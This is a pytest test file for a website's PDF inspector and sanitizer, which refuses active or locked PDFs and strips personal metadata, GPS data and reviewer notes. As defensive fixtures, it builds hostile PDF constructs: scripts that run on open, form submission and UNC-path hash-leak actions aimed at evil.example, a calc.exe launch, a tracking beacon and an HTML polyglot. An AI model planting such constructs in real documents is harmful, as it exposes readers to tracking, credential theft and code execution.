"""The PDFs the site publishes: what readers could not open, or what a viewer would run, is refused; what names
the people who wrote them is taken off the copy readers get."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Highlight, Link, Popup
from pypdf.generic import (ArrayObject, DictionaryObject, NameObject, NullObject, NumberObject, PdfObject,
                           StreamObject, TextStringObject)

from conftest import AUTHOR, REVIEWER, action, authored, on_open, reviewed, revised, with_photo, write_pdf
from hub.content.documents import DocumentError, inspect
from hub.outputs.documents import stripped, without_metadata


def submitting(writer: PdfWriter) -> None:
    """A form field whose button sends the form to another website."""
    action = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example/")})
    field = DictionaryObject({NameObject("/FT"): NameObject("/Btn"), NameObject("/A"): action})
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/Fields"): ArrayObject([field])})


def a_page_script(writer: PdfWriter) -> None:
    """A script on a page's opening (its additional actions), deep in the page tree rather than in the catalog."""
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})})


def on_page_open(run: DictionaryObject) -> Callable[[PdfWriter], None]:
    """The action `run` when the page is shown (its additional actions), without the reader asking."""
    def change(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): run})
    return change


def going_then(run: PdfObject) -> DictionaryObject:
    """A go-to the first page, then (`/Next`) the action `run` (or the actions, or nothing)."""
    first = action("/GoTo")
    first.update({NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]), NameObject("/Next"): run})
    return first


def a_link_to(run: DictionaryObject) -> Callable[[PdfWriter], None]:
    """A link on the first page that runs `run` when clicked."""
    def change(writer: PdfWriter) -> None:
        writer.add_annotation(0, DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                                   NameObject("/Subtype"): NameObject("/Link"),
                                                   NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
                                                   NameObject("/A"): run}))
    return change


def a_link_launching_by_reference(writer: PdfWriter) -> None:
    """A link whose action's kind (`/Launch`) is an object of its own: read as the viewer reads it."""
    launch = action("/Launch", F="calc.exe")
    launch[NameObject("/S")] = writer._add_object(NameObject("/Launch"))
    writer.add_annotation(0, DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                                               NameObject("/Subtype"): NameObject("/Link"),
                                               NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
                                               NameObject("/A"): launch}))


def a_photo_compressed_after(writer: PdfWriter) -> None:
    """A JPEG Flate-compressed the wrong way round: /DCTDecode first, which no viewer reads."""
    with_photo(phone_jpeg())(writer)
    photo = writer.pages[0]["/Resources"]["/XObject"]["/Photo"]
    photo[NameObject("/Filter")] = ArrayObject([NameObject("/DCTDecode"), NameObject("/FlateDecode")])


TRACKER = "https://tracker.example/pixel?doc=report"


@pytest.mark.parametrize(("change", "expected"), [
    (lambda writer: writer.add_open_action(JavaScript("app.alert(1)")), "holds a script"),
    (a_page_script, "holds a script"),
    (lambda writer: writer.add_attachment("invoice.exe", b"MZ"), "carries another file"),
    (submitting, "holds a form that sends"),
    (lambda writer: writer.encrypt("secret"), "protected by a password"),
    # a beacon: the viewer fetches the address as the document opens, telling a tracker who reads it
    (on_open(action("/URI", URI=TRACKER)), "act on its own"),
    # a file on another computer: Windows hands it the reader's password hash to open it
    (on_open(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "a file on the reader's computer or network"),
    (on_page_open(action("/URI", URI=TRACKER)), "act on its own"),
    (on_open(going_then(action("/Named", N="/Print"))), "act on its own"),
    (on_page_open(going_then(ArrayObject([going_then(action("/GoTo")), action("/Sound")]))), "act on its own"),
    (a_link_launching_by_reference, "start a program"),
    # clicked, it does the same: a link to a file on another computer, or on the reader's own
    (a_link_to(action("/GoToR", F="\\\\evil.example\\share\\x.pdf")), "a file on the reader's computer or network"),
    (a_link_to(action("/URI", URI="file:///C:/Users/olena/report.pdf")), "a file on the reader's computer or network"),
    (a_link_to(action("/URI", URI="\\\\evil.example\\share")), "a file on the reader's computer or network"),
    (a_photo_compressed_after, "filters are in the wrong order"),
])
def test_an_active_or_locked_pdf_is_refused(tmp_path: Path, change, expected: str) -> None:
    with pytest.raises(DocumentError, match=expected):
        inspect(write_pdf(tmp_path / "report.pdf", change=change))


def test_actions_that_stay_in_the_document_and_links_readers_click_pass(tmp_path: Path) -> None:
    """Opening at a page, or going to one as a page opens, leads nowhere else; a link leads elsewhere when clicked."""
    for name, change in (("fit.pdf", on_open(ArrayObject([NumberObject(0), NameObject("/Fit")]))),
                         ("goto.pdf", on_open(going_then(NullObject()))),
                         ("page.pdf", on_page_open(going_then(ArrayObject([action("/GoTo")])))),
                         ("link.pdf", lambda writer: writer.add_annotation(0, Link(rect=(0, 0, 99, 20), url=TRACKER)))):
        inspect(write_pdf(tmp_path / name, change=change))


def test_what_is_no_pdf_or_is_cut_short_is_refused_and_a_real_one_passes(tmp_path: Path) -> None:
    real = write_pdf(tmp_path / "real.pdf", heavy=20_000)
    inspect(real)
    html = tmp_path / "page.pdf"
    html.write_text("<script>alert(1)</script>", encoding="utf-8")
    with pytest.raises(DocumentError, match="is no PDF document"):
        inspect(html)
    html.write_bytes(b"<html><script>alert(1)</script><!-- " + real.read_bytes())  # a browser sniffs it as HTML
    with pytest.raises(DocumentError, match="is no PDF document"):
        inspect(html)
    cut = tmp_path / "cut.pdf"
    cut.write_bytes(real.read_bytes()[:300])
    with pytest.raises(DocumentError, match="could not be read as a PDF document"):
        inspect(cut)


def test_a_pdf_is_published_without_its_authors_name_its_title_and_its_xmp(tmp_path: Path) -> None:
    """Word writes the computer's user as the author, and the file's name as the title, in the document information
    and again in XMP: readers get the pages only."""
    clean = stripped(write_pdf(tmp_path / "report.pdf", change=authored))
    assert clean is not None and AUTHOR.encode() not in clean and b"Ivanchenko" not in clean
    reader = PdfReader(io.BytesIO(clean))
    assert reader.metadata is None and "/Metadata" not in reader.trailer["/Root"] and len(reader.pages) == 1


def test_a_pdf_saved_again_is_published_without_its_earlier_version(tmp_path: Path) -> None:
    """A name taken off a page and saved (a viewer appends the change) is still in the file, for any tool to read."""
    original = revised(write_pdf(tmp_path / "report.pdf"), "Maria Ivanchenko, 7")
    assert b"Maria Ivanchenko" in original.read_bytes()
    clean = stripped(original)
    assert clean is not None and b"Maria Ivanchenko" not in clean
    reader = PdfReader(io.BytesIO(clean))
    assert len(reader.pages) == 1 and "/Annots" not in reader.pages[0]


def test_every_pdf_is_written_again_without_what_nothing_in_it_refers_to(tmp_path: Path) -> None:
    """What no object of the document refers to (an object left by an editor, a comment after its end) is read by no
    viewer, but by any tool that searches its bytes; nor is its software's name only software's."""
    def left_behind(writer: PdfWriter) -> None:
        writer.add_metadata({"/Producer": "Olena Ivanenko", "/Creator": "C:\\Users\\olena.ivanenko\\case-Petro.docx"})
        writer._add_object(DictionaryObject({NameObject("/Author"): TextStringObject("Maria Ivanchenko")}))

    original = write_pdf(tmp_path / "plain.pdf", change=left_behind)
    original.write_bytes(original.read_bytes() + b"% notes: Ivanchenko family\n")
    clean = stripped(original)
    assert b"Ivanchenko" not in clean and b"lena" not in clean and b"Petro" not in clean and clean.startswith(b"%PDF-1.")
    reader = PdfReader(io.BytesIO(clean))
    assert reader.metadata is None and len(reader.pages) == 1


def test_a_reviewers_notes_are_taken_off_and_the_links_kept(tmp_path: Path) -> None:
    """A comment, its pop-up, a highlight, each with the reviewer's name: only the page and its links are published."""
    def marked_up(writer: PdfWriter) -> None:
        reviewed(writer)
        note = writer.pages[0]["/Annots"][0]
        writer.add_annotation(0, Popup(rect=(70, 600, 270, 700), parent=note))
        writer.add_annotation(0, Highlight(rect=(50, 500, 200, 520), quad_points=ArrayObject(
            [NumberObject(n) for n in (50, 520, 200, 520, 50, 500, 200, 500)]), title_bar=REVIEWER))
        writer.add_annotation(0, Link(rect=(50, 400, 200, 420), url="https://www.unicef.org/ukraine/"))

    clean = stripped(write_pdf(tmp_path / "report.pdf", change=marked_up))
    assert REVIEWER.encode() not in clean and b"Sadova" not in clean
    (link,) = [annotation.get_object() for annotation in PdfReader(io.BytesIO(clean)).pages[0]["/Annots"]]
    assert link["/Subtype"] == "/Link" and link["/A"]["/URI"] == "https://www.unicef.org/ukraine/"


def test_xmp_and_an_editors_data_are_taken_off_every_object(tmp_path: Path) -> None:
    """XMP may be a page's or a photo's own (its GPS position), an editor's private data a page's or the document's."""
    def recorded(writer: PdfWriter) -> None:
        with_photo(phone_jpeg())(writer)
        page, xmp = writer.pages[0], StreamObject()
        xmp.set_data(b'<x:xmpmeta><rdf:Description exif:GPSLatitude="50,27.1N" tiff:Model="Pixel 8"/></x:xmpmeta>')
        private = DictionaryObject({NameObject("/Illustrator"): DictionaryObject(
            {NameObject("/Private"): TextStringObject("C:\\Users\\olena.ivanenko\\Desktop")})})
        for owner in (page, page["/Resources"]["/XObject"]["/Photo"]):
            owner[NameObject("/Metadata")] = writer._add_object(xmp)
        for owner in (page, writer.root_object):
            owner[NameObject("/PieceInfo")] = private

    clean = stripped(write_pdf(tmp_path / "visit.pdf", change=recorded))
    assert b"/Metadata" not in clean and b"/PieceInfo" not in clean and b"GPS" not in clean and b"olena" not in clean
    assert len(PdfReader(io.BytesIO(clean)).pages[0].images) == 1


GPS = 0x8825


def phone_jpeg(mode: str = "RGB", **save: object) -> bytes:
    """A phone's photo: its GPS position and model in EXIF; red on the left, blue on the right."""
    image = Image.new("RGB", (400, 300), (20, 20, 200))
    image.paste((220, 20, 20), (0, 0, 200, 300))
    exif = Image.Exif()
    exif[GPS] = {1: "N", 2: (50.0, 27.0, 0.0), 3: "E", 4: (30.0, 31.0, 0.0)}
    exif[0x0110] = "Pixel 8"
    out = io.BytesIO()
    image.convert(mode).save(out, "JPEG", quality=90, exif=exif, comment=b"Ivanchenko family", **save)
    return out.getvalue()


def test_a_photo_inside_a_pdf_is_published_without_its_gps_position(tmp_path: Path) -> None:
    """A scanning app or img2pdf stores the phone's JPEG as it is, EXIF and all: the published PDF draws the same
    picture, from the same compressed bytes, without where and with what it was taken."""
    photo = phone_jpeg()
    original = write_pdf(tmp_path / "visit.pdf", change=with_photo(photo))
    assert b"Pixel 8" in original.read_bytes()
    clean = stripped(original)
    assert clean is not None and b"Pixel 8" not in clean and b"Exif" not in clean and b"Ivanchenko" not in clean
    page = PdfReader(io.BytesIO(clean)).pages[0]
    stored = page["/Resources"]["/XObject"]["/Photo"].get_object().get_data()  # a JPEG's data is its stream's, undecoded
    assert stored == without_metadata(photo) and photo.endswith(stored[-1000:])  # the picture is not encoded again
    (image,) = page.images
    assert image.image.getpixel((50, 150))[0] > 200 and image.image.getpixel((350, 150))[2] > 180


def test_a_photo_compressed_again_is_published_without_its_gps_position(tmp_path: Path) -> None:
    """A scanning app may Flate-compress the JPEG too: the published PDF holds the JPEG alone, without its EXIF."""
    photo = phone_jpeg()

    def compressed(writer: PdfWriter) -> None:
        with_photo(photo)(writer)
        stream = writer.pages[0]["/Resources"]["/XObject"]["/Photo"]
        stream[NameObject("/Filter")] = ArrayObject([NameObject("/FlateDecode"), NameObject("/DCTDecode")])
        StreamObject.set_data(stream, zlib.compress(photo))

    clean = stripped(write_pdf(tmp_path / "visit.pdf", change=compressed))
    page = PdfReader(io.BytesIO(clean)).pages[0]
    stored = page["/Resources"]["/XObject"]["/Photo"]
    assert stored["/Filter"] == "/DCTDecode" and stored.get_data() == without_metadata(photo)
    (image,) = page.images
    assert not image.image.getexif()
    assert image.image.getpixel((50, 150))[0] > 200 and image.image.getpixel((350, 150))[2] > 180


def test_a_photos_colour_profile_and_cmyk_marker_stay_with_it() -> None:
    """Only what was recorded about the photo goes: the segments that say how to draw it stay."""
    for jpeg in (phone_jpeg(icc_profile=b"\0" * 128), phone_jpeg("CMYK")):
        clean = without_metadata(jpeg)
        assert clean is not None and b"Exif" not in clean and b"Ivanchenko" not in clean
        with Image.open(io.BytesIO(jpeg)) as before, Image.open(io.BytesIO(clean)) as after:
            assert after.mode == before.mode and after.info.get("icc_profile") == before.info.get("icc_profile")
            assert after.info.get("adobe") == before.info.get("adobe") and after.tobytes() == before.tobytes()
            assert not after.getexif()
    assert without_metadata(without_metadata(phone_jpeg())) is None and without_metadata(b"no picture") is None


def test_a_photo_keeps_nothing_between_its_scans_or_after_its_end() -> None:
    """Only the segments before the first scan were read: a comment before a progressive JPEG's second scan, and a
    second picture (a phone's, with its EXIF) after the end, stayed in the PDF."""
    photo = phone_jpeg(progressive=True)
    second = photo.index(b"\xff\xda", photo.index(b"\xff\xda") + 2)
    hidden = photo[:second] + b"\xff\xfe\x00\x12Ivanenko, vul. 5" + photo[second:] + phone_jpeg()
    clean = without_metadata(hidden)
    assert clean is not None and b"Ivanenko" not in clean and b"Pixel 8" not in clean and clean.endswith(b"\xff\xd9")
    with Image.open(io.BytesIO(clean)) as image:
        image.load()
        assert image.getpixel((50, 150))[0] > 150 and image.getpixel((350, 150))[2] > 150  # the same picture


def test_a_links_author_and_comment_and_what_was_typed_into_a_field_are_not_published(tmp_path: Path) -> None:
    """Links and form fields are kept: their reviewer's name and comment (`/T`, `/Contents`, read out as the link's
    description) and a field's typed value are not."""
    link = a_link_to(action("/URI", URI="https://example.org/report"))

    def change(writer: PdfWriter) -> None:
        link(writer)
        annotation = writer.pages[0]["/Annots"][-1].get_object()
        annotation[NameObject("/T")] = TextStringObject("Ivan Petrenko")
        annotation[NameObject("/Contents")] = TextStringObject("remove the address 5 Shevchenka st")
        writer.add_annotation(0, DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("child"),
            NameObject("/V"): TextStringObject("Ivanko Petrenko, 2019"), NameObject("/TU"): TextStringObject("Petrenko"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (20, 20, 90, 40)])}))

    clean = stripped(write_pdf(tmp_path / "report.pdf", change=change))
    assert b"Petrenko" not in clean and b"Shevchenka" not in clean
    kept = [annotation.get_object() for annotation in PdfReader(io.BytesIO(clean)).pages[0]["/Annots"]]
    assert [annotation["/Subtype"] for annotation in kept] == ["/Link", "/Widget"]
    assert kept[0]["/A"]["/URI"] == "https://example.org/report"
